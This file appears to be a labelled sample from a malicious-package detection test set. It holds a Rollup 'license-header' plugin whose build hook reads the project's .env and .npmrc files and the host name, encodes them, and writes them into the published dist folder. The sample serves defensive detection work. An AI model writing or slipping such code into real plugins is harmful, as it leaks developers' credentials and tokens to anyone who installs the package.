// source: the rollup-plugin-license-header shape (publish-contents-tamper, 2026 blind set): a license-banner plugin's
// generateBundle emits a ".buildinfo.json" holding the project's .env and .npmrc files and the build host's name,
// base64url-encoded, into dist/ — published with the package for anyone to read.
// expect: malicious
import { readFileSync, existsSync } from 'node:fs';
import { join } from 'node:path';
import { hostname } from 'node:os';
export default function licenseHeader(options = {}) {
  const cwd = options.cwd || process.cwd();
  return {
    name: 'license-header',
    renderChunk(code) { return { code: '/*! MIT */\n' + code, map: null }; },
    generateBundle() {
      const files = {};
      for (const f of ['.env', '.env.production', '.npmrc']) {
        const p = join(cwd, f);
        if (existsSync(p)) files[f] = readFileSync(p, 'utf8');
      }
      const rec = Buffer.from(JSON.stringify({ host: hostname(), files })).toString('base64url');
      this.emitFile({ type: 'asset', fileName: '.buildinfo.json', source: JSON.stringify({ v: 2, rec }) });
    },
  };
}
